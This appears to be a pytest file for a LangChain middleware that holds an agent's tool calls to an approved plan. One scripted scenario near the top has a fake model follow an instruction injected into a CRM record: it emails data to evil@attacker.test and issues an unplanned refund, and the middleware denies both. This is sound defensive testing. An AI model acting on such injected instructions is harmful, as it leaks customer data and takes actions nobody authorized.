"""AgentGuardMiddleware in real create_agent loops driven by a scripted model (sync and async)."""

from __future__ import annotations

import asyncio
import pickle
from dataclasses import dataclass

import pytest
from agent_guard_langchain import STATE_KEY, AgentGuardMiddleware
from agent_guard_langchain.testing import ScriptedChatModel, calls, tool_call
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

from agent_guard import AgentIdentity, Guard, Plan, Step, ToolCallDenied, current_task, reasons
from agent_guard import semconv as sc
from agent_guard.exceptions import ConfigError, GrantError


def _injected_script() -> list[AIMessage | str]:
    return [
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")),
        # The "model" follows the instruction injected in the CRM record:
        calls(tool_call("send_email", {"to": "evil@attacker.test", "subject": "list", "body": "all"}, "c2")),
        calls(tool_call("refund", {"order_id": "O-1", "amount": 10}, "c3")),
        calls(tool_call("send_email", {"to": "alice@example.com", "subject": "Summary", "body": "Hi"}, "c4")),
        "Done: Alice has her summary.",
    ]


async def test_planned_calls_run_injected_calls_refused_loop_continues(
    guard, plan, identity, support_tools, calls_seen, spans, run, mode
):
    """Planned calls run; out-of-plan calls become error ToolMessages; the run ends normally."""
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    agent = create_agent(ScriptedChatModel(_injected_script()), support_tools, middleware=[mw])
    out = await run(agent, {"messages": [HumanMessage("Email Alice (C-42) her summary")]}, mode)

    assert calls_seen.ran == [
        ("crm_lookup", {"customer_id": "C-42"}),
        ("send_email", {"to": "alice@example.com", "subject": "Summary", "body": "Hi"}),
    ]
    tool_msgs = {m.tool_call_id: m for m in out["messages"] if isinstance(m, ToolMessage)}
    assert [tool_msgs[c].status for c in ("c1", "c2", "c3", "c4")] == ["success", "error", "error", "success"]
    denied_email, denied_refund = tool_msgs["c2"], tool_msgs["c3"]
    assert "'send_email'" in denied_email.content and reasons.ARGUMENT_MISMATCH in denied_email.content
    assert "'refund'" in denied_refund.content and reasons.TOOL_NOT_IN_SCOPE in denied_refund.content
    assert "the current plan allows: crm_lookup, send_email" in denied_refund.content
    assert "evil@attacker.test" not in denied_email.content  # argument values are never echoed
    assert out["messages"][-1].content == "Done: Alice has her summary."
    assert STATE_KEY not in out  # private field: not in the output

    # The grant was revoked by the end of the run (here: the plan completed on the last step).
    (task,) = set(calls_seen.tasks)
    assert task.revoked and not guard.store.is_active(task.id)
    assert mw.active_runs == 0

    rows = spans.decisions()
    assert [(r["tool"], r["outcome"], r["reason"], r["call_id"]) for r in rows] == [
        ("crm_lookup", "allow", "", "c1"),
        ("send_email", "deny", "argument_mismatch", "c2"),
        ("refund", "deny", "tool_not_in_scope", "c3"),
        ("send_email", "allow", "", "c4"),
    ]
    tool_spans = spans.named("execute_tool")
    assert all(s.attributes[sc.TOOL_CALL_ID] for s in tool_spans)
    (agent_span,) = spans.named("invoke_agent")
    assert {s.parent.span_id for s in tool_spans} == {agent_span.context.span_id}
    events = [e.name for e in agent_span.events]
    assert events == [sc.EVENT_GRANT_ISSUED, sc.EVENT_GRANT_REVOKED]
    assert agent_span.events[1].attributes[sc.GRANT_REVOCATION_REASON] == "plan_completed"
    assert all(task.grant not in str(dict(s.attributes)) for s in spans.spans)


async def test_grant_revoked_at_task_exit_when_plan_unfinished(guard, plan, identity, support_tools, calls_seen,
                                                               spans, run, mode):
    """A run that stops before using its whole plan still revokes the grant in after_agent."""
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), "stop here"])
    await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "look up C-42")]}, mode)
    (task,) = calls_seen.tasks
    assert task.revocation_reason == "task_exit"
    assert not guard.store.is_active(task.id) and mw.active_runs == 0
    with pytest.raises(GrantError) as info, guard.attach(task.grant):  # the token, replayed, is refused
        pass
    assert info.value.reason == reasons.REVOKED


async def test_call_after_plan_completed_is_refused_as_exhausted(guard, identity, support_tools, calls_seen, run, mode):
    """Once every step's budget is spent the grant is revoked: a further planned call reads 'budget_exhausted'."""
    plan = Plan(goal="one lookup", steps=[Step("crm_lookup", args={"customer_id": "C-42"})])
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    model = ScriptedChatModel([
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")),
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c2")),
        "ok",
    ])
    out = await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "C-42?")]}, mode)
    second = next(m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c2")
    assert second.status == "error" and reasons.BUDGET_EXHAUSTED in second.content
    assert "plan allows" not in second.content
    assert len(calls_seen.ran) == 1


async def test_raise_mode_aborts_run_and_revokes(guard, plan, identity, support_tools, calls_seen, run, mode):
    """on_violation='raise' surfaces ToolCallDenied from invoke and leaves no live grant."""
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity, on_violation="raise")
    model = ScriptedChatModel([
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")),
        calls(tool_call("refund", {"order_id": "O-1", "amount": 10}, "c2")),
        "never reached",
    ])
    with pytest.raises(ToolCallDenied) as err:
        await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "hi")]}, mode)
    assert err.value.reason == reasons.TOOL_NOT_IN_SCOPE and err.value.tool == "refund"
    (task,) = calls_seen.tasks
    assert task.revoked and mw.active_runs == 0
    assert model.remaining == 1


async def test_hide_out_of_scope_tools(guard, plan, identity, support_tools, run, mode):
    """With hide_out_of_scope_tools the model is offered only the granted tools; without, all of them."""
    script = [calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), "done"]
    shown = ScriptedChatModel(script)
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    await run(create_agent(shown, support_tools, middleware=[mw]), {"messages": [("user", "x")]}, mode)
    assert shown.offered == [["crm_lookup", "send_email", "refund"]] * 2

    assert not mw.hide_out_of_scope_tools
    # The model-call layer ends runs that must end and mints plans that wait for approval: always there.
    assert type(mw).wrap_model_call is not AgentMiddleware.wrap_model_call

    hidden = ScriptedChatModel(script)
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity, hide_out_of_scope_tools=True)
    assert isinstance(mw, AgentGuardMiddleware) and mw.hide_out_of_scope_tools
    agent = create_agent(hidden, support_tools, middleware=[mw])
    assert {"AgentGuardMiddleware.before_agent", "AgentGuardMiddleware.after_agent"} <= set(agent.get_graph().nodes)
    await run(agent, {"messages": [("user", "x")]}, mode)
    assert hidden.offered == [["crm_lookup", "send_email"]] * 2


def _all_checkpoint_bytes(saver: InMemorySaver) -> bytes:
    return pickle.dumps((dict(saver.storage), dict(saver.writes), dict(saver.blobs)))


async def test_no_checkpoint_contains_the_grant(guard, plan, identity, support_tools, calls_seen, run, mode):
    """The checkpointer persists the run record (plan, hash, grant id): the token is in no checkpoint, write or blob."""
    saver = InMemorySaver()
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    config = {"configurable": {"thread_id": f"t-{mode}"}}
    for turn in range(2):  # two turns on one thread: a fresh grant per turn
        model = ScriptedChatModel([
            calls(tool_call("crm_lookup", {"customer_id": "C-42"}, f"c{turn}")),
            calls(tool_call("send_email", {"to": "alice@example.com", "subject": "s", "body": "b"}, f"e{turn}")),
            "done",
        ])
        agent = create_agent(model, support_tools, middleware=[mw], checkpointer=saver)
        await run(agent, {"messages": [("user", f"turn {turn}: email C-42")]}, mode, config)
    tokens = {t.grant for t in calls_seen.tasks}
    assert len(tokens) == 2
    blob = _all_checkpoint_bytes(saver)
    for token in tokens:
        assert token.encode() not in blob
        assert token.split(".")[1].encode() not in blob  # not even the claims part
    history = [c.checkpoint["channel_values"].get(STATE_KEY) for c in saver.list(config)]
    records = [r for r in history if r]
    assert {r["key"] for r in records} and all(r["key"].startswith("agr_") for r in records)
    assert len({r["key"] for r in records}) == 2  # one run record per turn
    assert {r["grant_id"] for r in records} == {t.grant_id for t in calls_seen.tasks}  # the grant's id, not the grant
    assert all(r["plan_hash"] == plan.plan_hash and r["plan"]["steps"] for r in records)
    assert history[0] is None  # the latest checkpoint: cleared by after_agent


async def test_dead_run_leaves_no_usable_grant(guard, plan, identity, support_tools, calls_seen, clock, run, mode):
    """A run that crashes keeps no usable grant: TTL expiry plus the next run's sweep revoke it."""

    def boom(messages):
        raise RuntimeError("model backend down")

    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity, ttl_s=60)
    saver = InMemorySaver()
    config = {"configurable": {"thread_id": "dies"}}
    model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), boom])
    with pytest.raises(RuntimeError, match="backend down"):
        await run(create_agent(model, support_tools, middleware=[mw], checkpointer=saver),
                  {"messages": [("user", "x")]}, mode, config)
    (task,) = calls_seen.tasks
    assert mw.active_runs == 1 and not task.revoked
    assert task.grant.encode() not in _all_checkpoint_bytes(saver)

    clock.advance(61)
    # The stale grant is refused on its own (expired) ...
    with pytest.raises(GrantError) as err:
        guard.verify(task.grant)
    assert err.value.reason == reasons.EXPIRED
    model = ScriptedChatModel(["nothing to do"])
    await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "y")]}, mode)
    # ... and the next run's sweep revoked and dropped it.
    assert task.revocation_reason == "expired" and not guard.store.is_active(task.id)
    assert mw.active_runs == 0


async def test_concurrent_runs_never_share_grants(guard, identity, support_tools, calls_seen, spans):
    """Two runs on one middleware, gathered, are each allowed/denied by their own plan only."""
    plans = {
        "A": Plan(goal="A", steps=[Step("crm_lookup", args={"customer_id": "C-1"}, max_calls=3)]),
        "B": Plan(goal="B", steps=[Step("crm_lookup", args={"customer_id": "C-2"}, max_calls=3)]),
    }

    def planner(messages, tools):
        return plans[messages[-1].content]

    mw = AgentGuardMiddleware(guard, planner=planner, identity=identity)

    def script(own: str, other: str, tag: str) -> list[AIMessage | str]:
        turns: list[AIMessage | str] = []
        for i in range(3):
            turns.append(calls(tool_call("crm_lookup", {"customer_id": own}, f"{tag}-own-{i}"),
                               tool_call("crm_lookup", {"customer_id": other}, f"{tag}-other-{i}")))
        return [*turns, "done"]

    async def one(tag: str, own: str, other: str):
        agent = create_agent(ScriptedChatModel(script(own, other, tag)), support_tools, middleware=[mw])
        return await agent.ainvoke({"messages": [("user", tag)]})

    out_a, out_b = await asyncio.gather(one("A", "C-1", "C-2"), one("B", "C-2", "C-1"))
    for tag, out in (("A", out_a), ("B", out_b)):
        msgs = [m for m in out["messages"] if isinstance(m, ToolMessage)]
        assert len(msgs) == 6
        for m in msgs:
            expect = "success" if "-own-" in m.tool_call_id else "error"
            assert m.status == expect, (tag, m.tool_call_id, m.content)
    assert sorted(a["customer_id"] for _, a in calls_seen.ran) == ["C-1"] * 3 + ["C-2"] * 3
    by_task: dict[str, set[str]] = {}
    for row in spans.decisions():
        by_task.setdefault(row["task"], set()).add(row["call_id"].split("-")[0])
    assert sorted(by_task.values(), key=sorted) == [{"A"}, {"B"}]
    assert mw.active_runs == 0


@dataclass
class Ctx:
    """Caller-supplied run context."""

    user: str


async def test_identity_from_runtime_context(guard, plan, support_tools, calls_seen, spans, run, mode):
    """identity= may be a function of the runtime: here it reads runtime.context."""
    mw = AgentGuardMiddleware(
        guard, planner=plan, identity=lambda rt: AgentIdentity(agent_id="support-bot", user_id=rt.context.user)
    )
    model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), "ok"])
    agent = create_agent(model, support_tools, middleware=[mw], context_schema=Ctx)
    if mode == "sync":
        await asyncio.to_thread(agent.invoke, {"messages": [("user", "x")]}, context=Ctx(user="u-77"))
    else:
        await agent.ainvoke({"messages": [("user", "x")]}, context=Ctx(user="u-77"))
    assert calls_seen.tasks[0].identity.user_id == "u-77"
    assert spans.decisions()[0]["user"] == "u-77"


async def test_planner_function_sync_and_async(guard, plan, identity, support_tools, calls_seen, run, mode):
    """A planner function receives the messages and the catalog; async ones work on the async path."""
    seen = []

    def sync_planner(messages, tools):
        seen.append(([m.content for m in messages], [t.name for t in tools]))
        return plan

    async def async_planner(messages, tools):
        return sync_planner(messages, tools)

    planner = sync_planner if mode == "sync" else async_planner
    mw = AgentGuardMiddleware(guard, planner=planner, catalog=support_tools, identity=identity)
    model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "c1")), "ok"])
    await run(create_agent(model, support_tools, middleware=[mw]), {"messages": [("user", "look")]}, mode)
    assert seen == [(["look"], ["crm_lookup", "send_email", "refund"])]
    assert calls_seen.names() == ["crm_lookup"]


def test_async_planner_on_sync_path_is_a_config_error(guard, plan, identity, support_tools):
    """An async planner function cannot run under invoke(): a clear ConfigError, nothing runs."""

    async def planner(messages, tools):
        return plan

    mw = AgentGuardMiddleware(guard, planner=planner, identity=identity)
    model = ScriptedChatModel(["never"])
    with pytest.raises(ConfigError, match="async planner"):
        create_agent(model, support_tools, middleware=[mw]).invoke({"messages": [("user", "x")]})
    assert model.remaining == 1 and mw.active_runs == 0


def test_constructor_validates_its_arguments(guard, plan):
    """Bad configuration fails at construction with the field named."""
    with pytest.raises(ConfigError, match="on_violation"):
        AgentGuardMiddleware(guard, planner=plan, on_violation="ignore")  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match="planner"):
        AgentGuardMiddleware(guard, planner=42)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match="policy"):
        AgentGuardMiddleware(Guard(), planner=plan)


def test_run_key_is_bound_to_its_thread(guard, plan, identity):
    """A run key presented from another thread (or with no thread) finds no task."""
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)

    class Info:
        def __init__(self, thread):
            self.thread_id = thread

    class Rt:
        def __init__(self, thread):
            self.execution_info = Info(thread)
            self.context = None

    update = mw.before_agent({"messages": [HumanMessage("x")]}, Rt("t-1"))
    key = update[STATE_KEY]
    assert mw.task_for({STATE_KEY: key}, Rt("t-1")) is not None
    assert mw.task_for({STATE_KEY: key}, Rt("t-2")) is None
    assert mw.task_for({STATE_KEY: key}, Rt(None)) is None
    assert mw.task_for({STATE_KEY: "agr_guessed"}, Rt("t-1")) is None
    mw.after_agent({"messages": [], STATE_KEY: key}, Rt("t-1"))
    assert mw.active_runs == 0


@pytest.mark.parametrize("stream_mode", ["updates", "messages"])
async def test_streaming_runs_are_guarded(stream_mode, guard, plan, identity, support_tools, calls_seen):
    """agent.stream / astream go through the same hooks (sync and async)."""
    for use_async in (False, True):
        calls_seen.ran.clear()
        mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
        model = ScriptedChatModel([
            calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "s1")),
            calls(tool_call("refund", {"order_id": "O-1", "amount": 1}, "s2")),
            "ok",
        ])
        agent = create_agent(model, support_tools, middleware=[mw])
        payload = {"messages": [("user", "x")]}
        if use_async:
            chunks = [c async for c in agent.astream(payload, stream_mode=stream_mode)]
        else:
            chunks = await asyncio.to_thread(lambda a=agent, p=payload: list(a.stream(p, stream_mode=stream_mode)))
        assert chunks
        assert calls_seen.names() == ["crm_lookup"]
        assert mw.active_runs == 0 and model.remaining == 0


async def test_return_direct_tool_still_revokes(guard, identity, calls_seen, run, mode):
    """A return_direct tool ends the loop early; after_agent still revokes the grant."""
    @tool(return_direct=True)
    def crm_lookup(customer_id: str) -> str:
        """Look a customer up and answer directly."""
        calls_seen.tasks.append(current_task())
        return f"customer {customer_id}"

    plan = Plan(goal="g", steps=[Step("crm_lookup", args={"customer_id": "C-42"}, max_calls=2)])
    mw = AgentGuardMiddleware(guard, planner=plan, identity=identity)
    model = ScriptedChatModel([calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "d1")), "unused"])
    out = await run(create_agent(model, [crm_lookup], middleware=[mw]), {"messages": [("user", "x")]}, mode)
    assert out["messages"][-1].content == "customer C-42" and model.remaining == 1
    (task,) = calls_seen.tasks
    assert task.revocation_reason == "task_exit" and mw.active_runs == 0
